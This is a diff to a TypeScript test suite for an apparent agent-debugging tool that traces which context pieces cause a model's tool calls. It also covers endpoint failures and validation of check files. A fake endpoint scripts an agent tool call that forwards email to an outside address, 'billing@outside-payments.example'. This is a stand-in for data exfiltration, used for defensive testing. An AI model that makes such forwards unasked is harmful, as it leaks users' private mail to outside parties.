@@ -115,6 +115,46 @@ describe('blame --why', () => {
   });
 });
 
+describe('blame --why on models whose decision does not depend on the context', () => {
+  /** Forwards in a share of reruns set by the request's seed alone, whatever the context says. */
+  const blind = (rate: number) => (request: { seed?: number }) => {
+    const forward = ((request.seed ?? 0) % 1000) / 1000 < rate;
+    return { text: forward ? 'tool call: forward_email {"to": "billing@outside-payments.example"}' : 'Nothing urgent today.', finish: 'stop', usage: { input: 1, output: 1 } };
+  };
+
+  it('a context-blind model gives no cause', async () => {
+    const e = await startFakeEndpoint({ answer: blind(0.8) });
+    endpoints.push(e);
+    const r = await blame(FIXTURE, '--why', 'last', '--model-url', e.url, '--json');
+    expect(r.status).toBe(0);
+    const out = JSON.parse(r.stdout);
+    expect(out.stable).toBe(true);
+    expect(out.headline).toBeNull();
+    expect(out.pieces.filter((p: { role: string }) => p.role !== 'no-effect' && p.role !== 'screened')).toEqual([]);
+    expect(out.notes.join(' ')).toMatch(/no piece of the context is a significant cause/);
+  });
+
+  it('a decision made under 1 in 5 reruns is "nothing stable to attribute"', async () => {
+    const e = await startFakeEndpoint({ answer: blind(0.05) });
+    endpoints.push(e);
+    const r = await blame(FIXTURE, '--why', 'last', '--model-url', e.url);
+    expect(r.status).toBe(0);
+    expect(r.stdout).toMatch(/nothing stable to attribute/);
+    expect(e.requests).toHaveLength(10);
+  });
+});
+
+describe('blame --why when the endpoint fails', () => {
+  it('says what the endpoint answered in one line, exit status 1', async () => {
+    const e = await endpoint();
+    e.setFault({ kind: 'status', status: 400, message: 'tool messages need a tool_call_id' });
+    const r = await blame(FIXTURE, '--why', 'last', '--model-url', e.url);
+    expect(r.status).toBe(1);
+    expect(r.stderr.trim().split('\n')).toHaveLength(1);
+    expect(r.stderr).toMatch(/a rerun failed: .*tool messages need a tool_call_id/);
+  });
+});
+
 describe('check files', () => {
   it('writes a check with the passing fix that holds on this model, fails on a model that ignores the fix, and a node:test file that runs it', async () => {
     const e = await endpoint();
@@ -142,13 +182,13 @@ describe('check files', () => {
 
   it('a check file that is not valid names the JSON path, and a changed trace is refused', async () => {
     const dir = workspace();
-    const good = { format: 'agentblame-check', version: 1, trace: { file: 'inbox.jsonl', sha256: 'a'.repeat(64), run: 'inbox-1' }, call: { index: 3, step: '5' }, predicate: { tool: 'forward_email' }, fix: { name: 'action-guard', addSystem: 'Only call forward_email when asked.' }, runs: 10, model: 'fake-model', seed: 1 };
+    const good = { format: 'agentblame-check', version: 1, trace: { file: 'inbox.jsonl', run: 'inbox-1', digest: 'a'.repeat(64) }, call: { index: 3, step: '5' }, predicate: { tool: 'forward_email' }, fix: { name: 'action-guard', addSystem: 'Only call forward_email when asked.' }, runs: 10, model: 'fake-model', seed: 1 };
     for (const [patch, message] of [
       [{ runs: 0 }, /runs: expected 1 to 1000 reruns/],
       [{ fix: { name: 'pray' } }, /fix\.name: expected one of untrusted-content/],
       [{ fix: { name: 'fix-the-source', remove: [{ message: 'x' }] } }, /fix\.remove\[0\]\.message: expected a number/],
       [{ predicate: { match: '(' } }, /predicate\.match: /],
-      [{ trace: { file: 'inbox.jsonl', sha256: 'zz', run: 'r' } }, /trace\.sha256: expected 64 lower-case hex/],
+      [{ trace: { file: 'inbox.jsonl', run: 'r', digest: 'zz' } }, /trace\.digest: expected a SHA-256/],
       [{ extra: 1 }, /extra: unknown field/],
     ] as [Record<string, unknown>, RegExp][]) {
       writeFileSync(join(dir, 'c.json'), JSON.stringify({ ...good, ...patch }));
@@ -160,6 +200,6 @@ describe('check files', () => {
     writeFileSync(join(dir, 'c.json'), JSON.stringify(good));
     const changed = await blame('--check', join(dir, 'c.json'), '--model-url', 'http://127.0.0.1:9/v1');
     expect(changed.status).toBe(2);
-    expect(changed.stderr).toMatch(/is not the one the check was written for/);
+    expect(changed.stderr).toMatch(/step 3 of run "inbox-1" is not the call the check was written for/);
   });
 });
